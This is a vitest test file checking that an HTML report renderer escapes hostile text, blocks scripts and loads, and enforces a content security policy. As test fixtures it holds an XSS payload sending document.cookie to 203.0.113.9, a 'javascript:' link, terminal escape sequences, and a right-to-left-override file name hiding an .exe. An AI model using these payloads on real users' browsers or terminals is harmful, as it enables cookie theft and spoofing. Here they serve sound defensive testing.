import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Report } from '../../../src/core/report.ts';
import { html, markupText } from '../../../src/report/html/tag.ts';
import { reporters } from '../../../src/report/index.ts';
import { hostile } from '../../golden/sample/hostile.ts';
import { sampleReport } from '../../golden/sample/report.ts';
import { hostileText } from './hostile-text.ts';
import { unbuilt, withTexts } from './reports.ts';

const draw = (report: Report = sampleReport, audience: 'engineer' | 'recruiter' | 'candidate' = 'engineer') =>
  reporters.html(report, { audience });

/** Every tag of a page with its attribute names and, for attributes that must not vary, values. */
const skeleton = (page: string): string[] =>
  [...page.matchAll(/<(\/?[A-Za-z!][^\s>/]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g)].map(
    ([, tag = '', rest = '']) => {
      const names = [...rest.matchAll(/\s([^\s=]+)(?:="([^"]*)")?/g)].map(([, name]) => name);
      return `${tag} ${names.join(' ')}`;
    },
  );

describe('the html tag', () => {
  test('escapes what is put in, shows unseen characters, and keeps its own markup', () => {
    const inner = html`<b>${'<i>'}</b>`;
    expect(markupText(html`<p title="${`"'&`}">${inner}${['a', false, undefined, 1]}${'\u202e'}</p>`)).toBe(
      '<p title="&quot;&#39;&amp;"><b>&lt;i&gt;</b>a1\\u{202e}</p>',
    );
  });
});

describe('the page', () => {
  test('has no script, no handler and nothing to load', () => {
    const page = draw();
    expect(page).not.toMatch(/<(?:script|img|iframe|object|embed|base|form|input|button|audio|video)\b/i);
    expect(skeleton(page).filter((tag) => / on\w+| src\b| srcset| style\b| formaction/.test(tag))).toEqual([]);
    expect([...page.matchAll(/<link [^>]*>/g)].map((match) => match[0])).toEqual(['<link rel="icon" href="data:,">']);
  });

  test('allows exactly its own style sheet', () => {
    const page = draw();
    const css = /<style>(.*?)<\/style>/s.exec(page)?.[1] ?? '';
    const hash = createHash('sha256').update(css).digest('base64');
    expect(page).toContain(
      `content="default-src &#39;none&#39;; style-src &#39;sha256-${hash}&#39;; img-src data:; base-uri &#39;none&#39;; form-action &#39;none&#39;"`,
    );
    expect(css).not.toMatch(/@import|url\((?!#)/);
  });

  test('links only to its own parts and to rules over HTTPS', () => {
    const script = withTexts(sampleReport, (old) => (old.startsWith('https://') ? 'javascript:alert(1)' : old));
    for (const page of [draw(), draw(script)]) {
      for (const [, target] of page.matchAll(/<a href="([^"]*)"/g))
        expect(target).toMatch(/^(?:#[a-z0-9-]+|https:\/\/)/);
    }
    expect(draw(script)).not.toMatch(/<a href="https?:/);
  });

  test('every link within the page has its place, and every id is there once', () => {
    for (const audience of ['engineer', 'recruiter', 'candidate'] as const) {
      const page = draw(sampleReport, audience);
      const ids = [...page.matchAll(/\sid="([^"]*)"/g)].map((match) => match[1]);
      expect(new Set(ids).size).toBe(ids.length);
      for (const [, target] of page.matchAll(/<a href="#([^"]*)"/g)) expect(ids).toContain(target);
    }
  });

  test('shows hostile text literally, with its control characters visible', () => {
    const page = draw();
    expect(page).toContain('&lt;script&gt;fetch(&#39;//203.0.113.9/&#39;+document.cookie)&lt;/script&gt;');
    expect(page).not.toContain(hostile.script);
    expect(page).toContain('\\x1b[2J\\x1b]52;c;ZXZpbA==\\x07\\x9b31mPASS\\x08\\x08');
    expect(page).toContain('invoice\\u{202e}fdp.exe\\u{2066}');
  });

  test('has the same skeleton whatever the texts are', () => {
    const plain = skeleton(draw(withTexts(sampleReport, () => 'text')));
    const loud = fc.array(hostileText, { minLength: 1, maxLength: 9 });
    fc.assert(
      fc.property(loud, (texts) => {
        let index = 0;
        const page = draw(
          withTexts(sampleReport, () => `t${(texts[index++ % texts.length] ?? '').replaceAll('`', "'")}`),
        );
        const groups = (tags: string[]) =>
          tags.filter((tag) => !/^\/?(?:details|summary|ul|li|span|p|code|b) /.test(tag));
        expect(groups(skeleton(page))).toEqual(groups(plain));
        expect(skeleton(page).filter((tag) => /^(?:script|img|b |i )/.test(tag))).toEqual([]);
      }),
      { numRuns: 40 },
    );
  });

  test('has no unescaped markup and no raw control character whatever the texts are', () => {
    const error = { ...unbuilt, outcome: 'infra-error' as const };
    const known = new Set([sampleReport, unbuilt, error].flatMap((report) => skeleton(draw(report))));
    fc.assert(
      fc.property(hostileText, fc.boolean(), (text, keep) => {
        for (const report of [sampleReport, unbuilt]) {
          const page = draw(withTexts(report, (old) => (keep ? old + text : text)));
          expect(skeleton(page).filter((tag) => !known.has(tag))).toEqual([]);
          expect(/(?![\n\t])\p{Cc}|[\p{Cf}\p{Cs}]/u.test(page)).toBe(false);
        }
      }),
      { numRuns: 60 },
    );
  });

  test('stays small: bodies, findings and logs are clipped', () => {
    const huge = withTexts(sampleReport, (old) => `${old} ${'<&>'.repeat(100_000)}`);
    expect(draw(huge).length).toBeLessThan(6_000_000);
  });
});

describe('what a reader finds', () => {
  test('the engineer: points that add up, evidence, reasons, load, measurement', () => {
    const page = draw();
    for (const text of [
      '−18',
      'from 100 to 82',
      'curl -si http://localhost:8080/v2/orders',
      'Verify <code>exp</code> before trusting any claim',
      'seen 2 of 2 times',
      'requirement R-12',
      'CWE-613',
      'this machine was too busy for a fair comparison',
      'the API does not send Accept-Ranges',
      'the log stream of the container engine ended early',
      'failed once, then held',
      'Latency by percentile',
      'seconds since the start of the phase',
      '0 containers, networks, volumes and images',
      '512 MiB',
    ]) {
      expect(page, text).toContain(text);
    }
  });

  test('the recruiter: plain words first, everything else folded', () => {
    const page = draw(sampleReport, 'recruiter');
    const [first = ''] = page.split('<details class="details">');
    expect(first).toContain('What to ask in the interview');
    expect(first).toContain('Lets people in with an expired pass');
    expect(first.slice(first.indexOf('<main>'))).not.toMatch(/curl|RFC|R-12|OpenAPI/);
    expect(page).toContain('Details for the engineer');
  });

  test('nobody sees a score where there is none', () => {
    const page = draw({ ...unbuilt, outcome: 'infra-error', summary: { ...unbuilt.summary, standing: 'not-graded' } });
    expect(page).toContain('no score');
    expect(page).not.toContain('class="earned"');
  });
});
